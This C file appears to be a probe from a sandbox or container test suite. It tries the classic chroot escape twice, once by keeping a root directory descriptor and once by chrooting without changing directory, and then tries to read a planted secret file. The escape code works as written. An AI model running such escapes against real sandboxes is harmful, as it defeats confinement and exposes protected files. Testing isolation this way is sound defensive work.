/* The classic chroot escape: keep a descriptor of a directory, chroot into
 * a subdirectory, fchdir back to the descriptor and climb with "..", then
 * chroot("."). Also the form without a descriptor: chroot into a
 * subdirectory without entering it, and climb from the old cwd. */
#include "escape.h"

static void climb_and_look(const char* how) {
  for (int i = 0; i < 64; i++) {
    if (chdir("..") != 0) break;
  }
  try_secret_from_dir(AT_FDCWD, how);
  if (chroot(".") == 0) try_secret_at(AT_FDCWD, secret_path(), how);
}

int main(void) {
  char* jail = in_root("/tmp/escape-jail");
  mkdir(jail, 0755);
  char inner[4096];
  snprintf(inner, sizeof(inner), "%s/inner", jail);
  mkdir(inner, 0755);

  pid_t child = fork();
  if (child == 0) {
    int kept = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot(jail) != 0) {
      note("chroot: %s", strerror(errno));
      _exit(0);
    }
    if (kept >= 0 && fchdir(kept) == 0) {
      climb_and_look("chroot then fchdir to a kept descriptor");
      try_secret_from_dir(kept, "openat from a descriptor kept over chroot");
    }
    _exit(escape_finish());
  }
  int status;
  waitpid(child, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 10) escape_escaped = 1;

  child = fork();
  if (child == 0) {
    if (chdir(jail) != 0 || chroot("inner") != 0) {
      note("chroot inner: %s", strerror(errno));
      _exit(0);
    }
    climb_and_look("chroot without chdir, then climb");
    _exit(escape_finish());
  }
  waitpid(child, &status, 0);
  if (WIFEXITED(status) && WEXITSTATUS(status) == 10) escape_escaped = 1;
  return escape_finish();
}
